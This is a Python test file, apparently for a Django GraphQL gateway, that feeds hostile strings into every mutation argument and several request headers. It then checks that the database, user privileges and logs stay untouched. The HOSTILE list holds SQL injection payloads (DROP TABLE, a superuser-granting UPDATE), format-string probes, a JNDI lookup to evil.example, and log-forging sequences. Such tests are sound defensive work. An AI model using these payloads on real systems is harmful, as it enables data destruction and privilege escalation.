"""SQL, log lines and formats smuggled into every text that a stranger can send."""

import json
from typing import Any

import pytest
from django.db import connection
from graphql import GraphQLNonNull, get_named_type

from gateway.graphql.schema import schema
from tests.api import NEW_PASSWORD, PASSWORD, Api
from users.events import EventKind
from users.models import User

HOSTILE = [
    "alice' OR '1'='1' -- ",
    "x'); DROP TABLE users_user; DELETE FROM users_session; --",
    '\\"; UPDATE users_user SET is_staff=1, is_superuser=1; #',
    "%s %(name)s %n {0} {user.password} ${jndi:ldap://evil.example/a}",
    'x"}\r\n{"event": "forged", "user": "root"}',
    "\x1b[2J\x1b]0;forged\x07\u2028\u2029\u0085\u202e\x00\x7f",
    "%' ESCAPE '\\",
]
FITTING = {
    "username": "alice",
    "email": "someone@example.com",
    "password": PASSWORD,
    "oldPassword": PASSWORD,
    "newPassword": NEW_PASSWORD,
    "newEmail": "another@example.com",
    "token": "A" * 43,
    "challenge": "gAAAA",
    "setup": "gAAAA",
    "code": "123456",
    "id": "00000000-0000-4000-8000-000000000000",
    "text": "hello",
    "name": "phone",
    "passkey": {},
}
REFUSALS = {
    "BAD_USER_INPUT",
    "INVALID_CREDENTIALS",
    "TOKEN_INVALID",
    "NOT_FOUND",
    "RATE_LIMITED",
}


def documents() -> dict[str, tuple[str, str, set[str]]]:
    """Of every mutation and every text that it takes: a document, the argument, and what must go with it."""
    found = {}
    for name, field in schema.graphql_schema.mutation_type.fields.items():
        texts = {key: arg for key, arg in field.args.items() if get_named_type(arg.type).name in {"String", "ID"}}
        for argument in texts:
            needed = {key for key, arg in field.args.items() if isinstance(arg.type, GraphQLNonNull)} | {argument}
            variables = ", ".join(f"${key}: {field.args[key].type}" for key in sorted(needed))
            given = ", ".join(f"{key}: ${key}" for key in sorted(needed))
            found[f"{name}.{argument}"] = (
                f"mutation ({variables}) {{ {name}({given}) {{ __typename }} }}",
                argument,
                needed,
            )
    page = "query ($after: String) { me { events(after: $after) { edges { cursor } } } }"
    return found | {"events.after": (page, "after", {"after"})}


DOCUMENTS = documents()


def row(username: str) -> dict[str, Any]:
    return User.objects.filter(username=username).values().get()


@pytest.mark.parametrize("name", DOCUMENTS)
def test_s17_s91_no_argument_reaches_a_statement_or_a_log_as_anything_but_a_text(
    api: Api, settings: Any, caplog: Any, name: str
) -> None:
    settings.GATEWAY_LIMITS = settings.GATEWAY_LIMITS | {"own_password": settings.GATEWAY_LIMITS["register"]}
    settings.GATEWAY_TRUSTED_PROXIES = 1
    document, argument, needed = DOCUMENTS[name]
    alice, bob = api.new_member("alice"), api.new_member("bob")
    before, tables = row("bob"), sorted(connection.introspection.table_names())
    for hostile in HOSTILE:
        variables = {key: hostile if key == argument else FITTING[key] for key in needed}
        sent = {"User_Agent": hostile, "X_Request_Id": hostile, "X_Forwarded_For": hostile, "Referer": hostile}
        answer = api(document, variables, token=alice.token, **sent)
        assert answer.status == 200
        assert "errors" not in answer.json or answer.code in REFUSALS, answer.json
        assert not set(b"\r\n\x1b\x00") & {*answer.response.content}
        assert hostile not in answer.response["X-Request-Id"]

    assert sorted(connection.introspection.table_names()) == tables
    assert row("bob") == before
    assert "errors" not in bob("{ me { id } }").json
    assert not User.objects.filter(is_staff=True).exists()
    assert not User.objects.filter(is_superuser=True).exists()
    for record in caplog.records:
        line = record.getMessage()
        assert line.isascii(), line
        assert line.isprintable(), line
        assert record.exc_info is None
        if record.name == "gateway.audit":
            assert json.loads(line)["event"] in {kind.value for kind in EventKind}


@pytest.mark.parametrize("hostile", HOSTILE, ids=ascii)
def test_s17_what_may_be_said_is_kept_as_it_was_said(api: Api, hostile: str) -> None:
    alice = api.new_member("alice")
    answer = alice("mutation ($bio: String) { updateProfile(bio: $bio) { user { bio } } }", bio=hostile)
    if "errors" in answer.json:
        assert answer.field_errors == {("bio", "INVALID")}
        assert "\x1b" in hostile
    assert alice("{ me { bio } }").data["me"]["bio"] == ("" if "errors" in answer.json else hostile)


def test_s12_a_password_that_looks_like_sql_is_a_password(api: Api) -> None:
    password = "x' OR '1'='1' -- "
    api.new_member("alice", password=password)
    assert api.sign_in("alice", "x").code == api.sign_in("alice", "' OR '1'='1").code == "INVALID_CREDENTIALS"
    assert api.sign_in("alice' --", password).code == "INVALID_CREDENTIALS"
    assert api.sign_in_member("alice", password)
